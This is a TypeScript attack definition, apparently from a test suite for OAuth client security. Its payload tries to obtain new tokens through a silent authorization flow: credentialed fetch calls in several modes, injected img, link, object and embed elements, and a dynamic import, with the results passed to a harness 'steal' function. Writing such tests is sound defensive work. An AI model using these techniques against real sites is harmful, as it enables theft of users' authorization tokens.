import { attack } from "../attack.js";

export default attack({
  name: "runs a silent flow by fetch, image, script, object and prefetch",
  threat: "acquisition of new tokens",
  target: "any",
  async payload(it) {
    const url = it.authorizationUrl();
    for (const init of [
      { mode: "cors", credentials: "include" },
      { mode: "no-cors", credentials: "include" },
      { mode: "no-cors", credentials: "include", redirect: "manual" },
      { mode: "same-origin", credentials: "include" },
    ] as RequestInit[]) {
      const response = await fetch(url, init).catch((error: unknown) => String(error));
      it.steal(typeof response === "string" ? response : [response.url, await response.text()]);
    }
    const elements: Element[] = [];
    for (const [name, attributes] of [
      ["img", { src: url }],
      ["link", { rel: "prefetch", href: url }],
      ["link", { rel: "stylesheet", href: url }],
      ["object", { data: url }],
      ["embed", { src: url }],
      ["video", { src: url }],
    ] as [string, Record<string, string>][]) {
      const element = document.createElement(name);
      try {
        for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value);
      } catch {
        // Trusted Types refuse <object> and <embed>.
      }
      elements.push(element);
    }
    document.body.append(...elements);
    await import(url).catch((error: unknown) => it.steal(String(error)));
    await it.pause(1_500);
    for (const element of elements) {
      try {
        const { contentDocument } = element as HTMLObjectElement;
        it.steal(contentDocument?.URL);
      } catch {
        // Cross-origin.
      }
    }
    it.steal(performance.getEntries());
  },
});
